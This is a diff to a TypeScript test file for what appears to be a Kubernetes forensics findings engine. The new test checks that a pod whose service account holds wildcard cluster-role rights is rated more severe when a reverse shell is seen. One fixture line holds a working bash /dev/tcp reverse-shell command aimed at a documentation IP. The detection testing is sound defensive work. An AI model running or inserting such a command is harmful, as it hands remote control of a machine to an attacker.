@@ -2,10 +2,11 @@ import { expect } from 'chai';
 import type { Docket } from '../../src/findings/docket.ts';
 import { judge, reaches, unmet } from '../../src/findings/judge.ts';
 import { rules } from '../../src/findings/rules.ts';
+import { identityReach } from '../../src/findings/rules/identity-reach.ts';
 import { reverseShell } from '../../src/findings/rules/reverse-shell.ts';
 import { tamperedProgram } from '../../src/findings/rules/tampered-program.ts';
 import { uEventItems } from './planted.ts';
-import { bookOf, cleanNode, type Items } from './traces-lab.ts';
+import { bookOf, cleanNode, type Items, podList, podObject, processItems, web } from './traces-lab.ts';
 
 function docketOf(items: Items, gaps: readonly { name: string; why: string }[] = []): Docket {
   const book = bookOf(items);
@@ -96,5 +97,36 @@ describe('severities', () => {
       true,
       false,
     ]);
+  });
+
+  it('weighs an identity by what all rules say of its pod, also when one rule alone is asked for', () => {
+    const token = { volumes: [{ projected: { sources: [{ serviceAccountToken: {} }] } }] };
+    const account = { kind: 'ServiceAccount', name: 'default', namespace: 'prod' };
+    const items: Items = {
+      ...cleanNode(),
+      'live_response/pod-diff.json': '{"containers":[]}',
+      'live_response/kubernetes/pods.json': podList(podObject(web, { spec: token })),
+      'live_response/kubernetes/clusterrolebindings.json': JSON.stringify({
+        items: [
+          { metadata: { name: 'b' }, roleRef: { kind: 'ClusterRole', name: 'r' }, subjects: [account] },
+        ],
+      }),
+      'live_response/kubernetes/clusterroles.json': JSON.stringify({
+        items: [{ metadata: { name: 'r' }, rules: [{ verbs: ['*'], apiGroups: ['*'], resources: ['*'] }] }],
+      }),
+    };
+    const weights = (more: Items, all = rules): string[] =>
+      judge([identityReach], [docketOf({ ...items, ...more })], 'c', all).findings.map(
+        ({ severity }) => severity,
+      );
+    const shell = processItems(10, {
+      in: web,
+      args: ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.66/4444 0>&1'],
+    });
+    expect(weights({})).to.deep.equal(['low']);
+    expect(weights(shell)).to.deep.equal(['critical']);
+    expect(
+      judge(rules, [docketOf({ ...items, ...shell })], 'c').findings.map(({ rule }) => rule),
+    ).to.include.members(['identity-reach', 'shell-command-line']);
   });
 });
